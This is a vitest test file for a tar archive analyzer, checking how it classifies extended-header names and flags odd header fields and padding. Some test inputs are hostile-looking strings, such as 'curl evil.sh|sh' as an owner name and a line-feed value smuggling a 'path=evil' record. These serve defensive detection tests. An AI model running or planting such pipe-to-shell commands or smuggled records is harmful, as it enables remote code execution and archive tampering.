import { describe, expect, it } from 'vitest'
import type { Anatomy, FieldName } from '../../src/model/layer.ts'
import { base256, paxRecord, type TarEntry, tar, tarEntry } from '../support/tar.ts'
import { cutTar, oddities, toldOf } from '../support/told.ts'

/** An entry behind an extended header of one's own making. */
const behind = (header: Partial<TarEntry>, entry: Partial<TarEntry> = {}): Promise<Anatomy> => {
  const before = tarEntry({ name: './PaxHeaders/a', type: 'x', body: paxRecord('comment', 'c'), ...header })
  return cutTar(tar([{ name: 'a', ...entry, before }]))
}
const carried = (name: string, path: string): Promise<Anatomy> =>
  behind({ name: name.slice(0, 100), body: paxRecord('path', path) }, { name: '', type: path.endsWith('/') ? '5' : '0' })

const deep = `${'folder/'.repeat(20)}file`
const long = 'n'.repeat(120)

describe('tar: names of extended headers', () => {
  it.each<[string, string, string]>([
    ['GNU', './PaxHeaders/a', 'a'],
    ['GNU', 'd/e/PaxHeaders/a', 'd/e/a'],
    ['GNU, of a folder', './d/PaxHeaders/e', './d/e/'],
    ['GNU, with its process id', './PaxHeaders.31390/a', 'a'],
    ['GNU, with a path that has a "."', './d/PaxHeaders.1/a', './d/a'],
    ['GNU, cut off', `./${'d'.repeat(60)}/PaxHeaders.31390/${long}`, `./${'d'.repeat(60)}/${long}`],
    ['GNU, cut off in the marker', `./${'d'.repeat(92)}/PaxHeaders/a`, `./${'d'.repeat(92)}/a`],
    ['GNU, cut off before the marker', `${deep.slice(0, -4)}PaxHeaders/file`, deep],
    ['Python', '././@PaxHeader', 'a'],
    ['Python', '././@PaxHeader', deep],
    ['Go', 'PaxHeaders.0/a', 'a'],
    ['Go', 'd/e/PaxHeaders.0/a', 'd/e/a'],
    ['libarchive', 'PaxHeader/a', 'a'],
    ['libarchive', 'd/PaxHeader/a', 'd/a'],
    ['npm', 'PaxHeader/a', 'd/e/a'],
    ['npm, cut off', `PaxHeader/${long}`, `package/${long}`],
    ['Java', './PaxHeaders.X/d/a', 'd/a'],
    ['tar-stream', 'PaxHeader', 'a'],
    ['star', 'PaxHeaders.1/', 'a'],
    ['what is not ASCII, as it is', 'PaxHeader/\xc3\xa9', '\xc3\xa9'],
    ['what is not ASCII, as "?"', 'PaxHeader/t?', 't\xc3\xa9'],
    ['what is not ASCII, as "_"', './PaxHeaders.X/t_t', 't\xc3\xa9t'],
  ])('usual: %s %s of %s', async (_, name, path) => {
    const anatomy = await carried(name, path)
    expect(toldOf(anatomy, 'tar.pax-name')).toEqual([''])
    expect(toldOf(anatomy, 'tar.pax-envelope')).toEqual(['records'])
    expect(oddities(anatomy)).toEqual([])
  })

  it.each<[string, string, string]>([
    ['a message', 'curl evil.sh', 'a'],
    ['the path alone', 'a', 'a'],
    ['nothing', '', 'a'],
    ['another file', 'PaxHeaders/b', 'a'],
    ['another folder', 'e/PaxHeaders/a', 'd/a'],
    ['a folder more', 'evil/PaxHeaders/a', 'a'],
    ['a file more', 'PaxHeaders/a/evil', 'a'],
    ['more behind the file', 'PaxHeaders/a.evil', 'a'],
    ['a word for a process id', 'PaxHeaders.evil/a', 'a'],
    ['a process id of eleven digits', 'PaxHeaders.12345678901/a', 'a'],
    ['two markers', 'PaxHeaders/PaxHeaders.1/a', 'a'],
    ['a message behind a marker', '././@PaxHeader/evil', 'a'],
    ['a global name', 'GlobalHead.1.1', 'a'],
    ['that of git', 'pax_global_header', 'a'],
    ['that of GNU long names', '././@LongLink', 'a'],
    ['a long message', 'evil '.repeat(20), deep],
    ['a long path of another file', `${'folder/'.repeat(13)}evil`.padEnd(100, '!'), deep],
    ['a message behind a cut marker', `./${'d'.repeat(92)}/evil!`, `./${'d'.repeat(92)}/a`],
  ])('kept: %s', async (_, name, path) => {
    const anatomy = await carried(name, path)
    expect(toldOf(anatomy, 'tar.pax-name')).toEqual(['raw'])
    expect(oddities(anatomy)).toEqual([])
  })

  it.each<[string, string]>([
    ['git', 'pax_global_header'],
    ['GNU', '/tmp/GlobalHead.31390.1'],
    ['GNU, in another folder', '/var/tmp/build-1/GlobalHead.1.2'],
    ['Go', 'GlobalHead.0.0'],
    ['Python', '././@PaxHeader'],
    ['star', 'PaxHeaders.1'],
  ])('usual, of a global header: %s %s', async (_, name) => {
    expect(toldOf(await behind({ type: 'g', name }), 'tar.pax-name')).toEqual([''])
  })

  it.each([
    '',
    'evil',
    'GlobalHead.evil',
    'GlobalHead.1.2.3',
    'curl evil.sh/GlobalHead',
    'a/b/c/d/e/GlobalHead',
    'GlobalHead/evil',
  ])('kept, of a global header: %j', async name => {
    expect(toldOf(await behind({ type: 'g', name }), 'tar.pax-name')).toEqual(['raw'])
  })

  it.each<[string, string, string]>([
    ['L', '././@LongLink', ''],
    ['K', '././@LongLink', ''],
    ['L', './@LongLink', 'raw'],
    ['L', '././@LongLink/evil', 'raw'],
    ['K', 'evil', 'raw'],
    ['L', './PaxHeaders/a', 'raw'],
  ])('of a header of type %s, %s: %j', async (type, name, expected) => {
    const anatomy = await behind({ type, name, dialect: 'gnu', body: type === 'L' ? 'a\0' : '\0' })
    expect(toldOf(anatomy, 'tar.pax-name')).toEqual([expected])
    expect(oddities(anatomy)).toEqual([])
  })
})

describe('tar: what else is in an extended header', () => {
  it.each<[string, Partial<TarEntry>]>([
    ['mode, owners and time of the entry', { mode: 0o100755, uid: 1000, gid: 100, mtime: 1_700_000_000 }],
    ['blank numbers', { raw: [[100, '\0'.repeat(24)]] }],
    ['large numbers', { raw: [[108, base256(3_000_000, 8)]] }],
    ['names of owners', { uname: 'build-user_1', gname: 'DOMAIN\\domain users' }],
    ['names of machines', { uname: 'a.b@host', gname: 'pc$' }],
    ['names that are not ASCII', { uname: 'b\xc3\xa9' }],
    ['no names of owners', { uname: '', gname: '' }],
    ['the link name of tar-stream', { link: 'PaxHeader' }],
    ['GNU', { dialect: 'gnu' }],
    ['a part of its name in the prefix', { name: 'a', prefix: 'PaxHeaders.1' }],
  ])('usual: %s', async (_, header) => {
    const anatomy = await behind(header)
    expect(toldOf(anatomy, 'tar.pax-envelope')).toEqual(['records'])
    expect(toldOf(anatomy, 'tar.pax-name')).toEqual([''])
    expect(oddities(anatomy)).toEqual([])
  })

  it.each<[string, Partial<TarEntry>]>([
    ['the link name of bsdtar', { link: 'x'.repeat(100) }],
    ['the whole target', { link: 'x'.repeat(120).slice(0, 99) }],
  ])('usual for a long target: %s', async (_, header) => {
    const anatomy = await behind({ type: 'K', name: '././@LongLink', dialect: 'gnu', body: `${'x'.repeat(120)}\0`, ...header })
    expect(toldOf(anatomy, 'tar.pax-envelope')).toEqual(['long name'])
  })

  it('usual: the times of star and node-tar behind its prefix', async () => {
    const raw = [476, 488].map(at => [at, '15301440746\0'] as const)
    const anatomy = await behind({ raw })
    expect(toldOf(anatomy, 'tar.pax-name')).toEqual([''])
    expect(oddities(anatomy)).toEqual([])
  })

  it('usual: a long name in ustar', async () => {
    const anatomy = await behind({ type: 'L', name: '././@LongLink', body: 'a\0' })
    expect(toldOf(anatomy, 'tar.pax-envelope')).toEqual(['long name'])
    expect(oddities(anatomy)).toEqual([])
  })

  it.each<[string, Partial<TarEntry>, FieldName?]>([
    ['v7, which has no such headers', { dialect: 'v7' }],
    ['no record', { body: '' }],
    ['a key with a line feed, which readers line by line take for two', { body: paxRecord('a\nb', 'c') }],
    ['a value with one', { body: paxRecord('comment', 'x\n11 path=evil') }],
    ['the type of Solaris', { type: 'X' }],
    ['text where star has times', { raw: [[476, 'evil']] }, 'tar.pax-name'],
    ['the version left out', { raw: [[257, 'ustar\0\0\0']] }],
    ['a number of blanks', { raw: [[108, ' '.repeat(8)]] }],
    ['a link name', { link: 'evil' }],
    ['text behind a link name', { raw: [[200, 'evil']] }],
    ['text behind the link name of tar-stream', { link: 'PaxHeader', raw: [[200, 'evil']] }],
    ['a mode that is none', { raw: [[100, 'evil']] }],
    ['a user id that is none', { raw: [[108, 'evil']] }],
    ['a group id that is none', { raw: [[116, 'evil']] }],
    ['a time that is none', { raw: [[136, 'curl evil.sh']] }],
    ['a user that is none', { uname: 'curl evil.sh|sh' }],
    ['lines in a group', { gname: 'a\nb' }],
    ['text behind a user', { raw: [[280, 'evil']] }],
    ['text behind a group', { raw: [[320, 'evil']] }],
    ['a device number', { major: 1 }],
    ['a device number that is none', { raw: [[337, 'evil']] }],
    ['another magic', { raw: [[257, 'message!']] }],
    ['another version', { raw: [[263, '42']] }],
    ['bytes without a use', { raw: [[500, 'evil']] }],
    ['bytes without a use, in GNU', { dialect: 'gnu', raw: [[345, 'evil']] }],
    ['bytes without a use, in v7', { dialect: 'v7', raw: [[511, '!']] }],
    ['NULs behind a long name', { type: 'L', name: '././@LongLink', dialect: 'gnu', body: 'a\0\0' }],
    ['text behind a long name', { type: 'L', name: '././@LongLink', dialect: 'gnu', body: 'a\0evil' }],
    ['text behind a long link name', { type: 'K', name: '././@LongLink', dialect: 'gnu', body: '\0evil' }],
    ['text behind the name', { raw: [[50, 'evil']] }, 'tar.pax-name'],
    ['text behind the prefix', { raw: [[400, 'evil']] }, 'tar.pax-name'],
    ['padding', { padding: 'evil' }, 'tar.padding'],
    [
      'padding of a long name',
      { type: 'L', name: '././@LongLink', dialect: 'gnu', body: 'a\0', padding: '\0evil' },
      'tar.padding',
    ],
  ])('odd: %s', async (_, header, name = 'tar.pax-envelope') => {
    const anatomy = await behind(header)
    expect(toldOf(anatomy, name)).toContain('! padding')
    expect(oddities(anatomy)).toEqual(['padding'])
    if (name !== 'tar.pax-envelope') expect(toldOf(anatomy, 'tar.pax-envelope')).toEqual([header.type ? 'long name' : 'records'])
  })
})
